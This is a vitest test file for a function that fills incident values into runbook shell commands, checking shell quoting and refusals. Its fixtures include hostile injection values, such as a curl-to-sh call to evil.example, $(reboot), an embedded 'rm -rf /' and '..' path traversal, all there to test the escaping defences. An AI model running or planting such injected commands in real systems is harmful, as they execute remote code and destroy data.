import { describe, expect, it } from "vitest";
import { AppError } from "@/lib/errors";
import { fillPlaceholders } from "./fill-placeholders";

const incident = { agent_id: "support-bot", session_id: "sess-42", incident_id: "inc-7", incident_start: new Date("2026-11-24T12:00:00Z") };

function refusal(run: () => unknown): { message: string; errors: unknown } {
  try {
    run();
  } catch (err) {
    if (!(err instanceof AppError)) throw err;
    expect(err.code).toBe("VALIDATION");
    return { message: err.message, errors: err.details?.errors };
  }
  throw new Error("expected a refusal");
}

describe("fillPlaceholders", () => {
  it("fills every placeholder from the incident, times as ISO 8601", () => {
    expect(
      fillPlaceholders("python -m agent_forensics snapshot --agent-id {agent_id} --session-id {session_id} --output /incidents/{incident_id}/", incident),
    ).toBe("python -m agent_forensics snapshot --agent-id support-bot --session-id sess-42 --output /incidents/inc-7/");
    expect(fillPlaceholders("since {incident_start}", incident)).toBe("since 2026-11-24T12:00:00.000Z");
    expect(fillPlaceholders("no placeholders, {print $1} stays", {})).toBe("no placeholders, {print $1} stays");
  });

  it("refuses a placeholder the incident has no value for, naming it", () => {
    const { message, errors } = refusal(() => fillPlaceholders("--session-id {session_id}", { ...incident, session_id: null }));
    expect(message).toBe("this step needs a session: the incident names none");
    expect(errors).toEqual([{ path: "session_id", message: "this step needs a session: the incident names none" }]);
    expect(refusal(() => fillPlaceholders("{agent_id} {incident_start}", { incident_id: "x", agent_id: "" })).errors).toEqual([
      { path: "agent_id", message: "this step needs an agent: the incident names none" },
      { path: "incident_start", message: "this step needs the incident's start time: the incident records none" },
    ]);
    expect(refusal(() => fillPlaceholders("{incident_start}", { incident_start: new Date("nope") })).message).toMatch(/start time/);
  });

  it("refuses an unknown placeholder", () => {
    expect(refusal(() => fillPlaceholders("{user_id}", incident)).message).toBe(
      "unknown placeholder {user_id}: a runbook can use {agent_id}, {session_id}, {incident_id} and {incident_start}",
    );
  });

  it("for a shell, leaves plain values alone and quotes the rest wherever the placeholder sits", () => {
    const hostile = { ...incident, session_id: "x'; curl evil.example | sh; echo '" };
    expect(fillPlaceholders("snap --session-id {session_id} --agent-id {agent_id}", hostile, { shell: true })).toBe(
      `snap --session-id 'x'\\''; curl evil.example | sh; echo '\\''' --agent-id support-bot`,
    );
    expect(fillPlaceholders("redis-cli HSET k reason 'Incident in {session_id}'", { session_id: "a b$c" }, { shell: true })).toBe(
      "redis-cli HSET k reason 'Incident in ''a b$c'''",
    );
    expect(fillPlaceholders('echo "session {session_id}"', { session_id: "$(reboot)" }, { shell: true })).toBe(`echo "session "'$(reboot)'""`);
    expect(fillPlaceholders("echo \\'{session_id}", { session_id: "a;b" }, { shell: true })).toBe("echo \\''a;b'");
  });

  it("for a shell, refuses values that would become options or hold control characters or backslashes", () => {
    expect(refusal(() => fillPlaceholders("snap --session-id {session_id}", { session_id: "--all" }, { shell: true })).message).toMatch(/starts with "-"/);
    expect(refusal(() => fillPlaceholders("snap {session_id}", { session_id: "a\nrm -rf /" }, { shell: true })).message).toMatch(/control characters/);
    expect(refusal(() => fillPlaceholders("snap '{session_id}'", { session_id: "x\\' ; touch y #" }, { shell: true })).message).toBe(
      "session_id holds a backslash, which shells do not all read alike inside quotes",
    );
  });

  it('for a shell, refuses a value with a ".." path segment, which would lead a path out of its directory', () => {
    for (const session_id of ["..", "../../etc", "a/../../b", "a/.."]) {
      expect(refusal(() => fillPlaceholders("rm -rf /var/tmp/agent-sessions/{session_id}", { session_id }, { shell: true })).message).toBe(
        'session_id holds a ".." path segment, which would lead a path in the command out of the directory it names',
      );
    }
    expect(fillPlaceholders("rm -rf /var/tmp/agent-sessions/{session_id}", { session_id: "run..2/a.b" }, { shell: true })).toBe(
      "rm -rf /var/tmp/agent-sessions/run..2/a.b",
    );
  });

  it("for a shell, refuses a placeholder where no quoting holds, naming it and why, whatever the value", () => {
    const { message, errors } = refusal(() => fillPlaceholders('snap "$(echo {session_id})" --agent {agent_id}', incident, { shell: true }));
    expect(message).toBe("{session_id} sits inside $( … ), where a shell reads the value again as code");
    expect(errors).toEqual([{ path: "session_id", message }]);
    // Outside the shell, the same template is text to fill.
    expect(fillPlaceholders('snap "$(echo {session_id})"', incident)).toBe('snap "$(echo sess-42)"');
  });
});
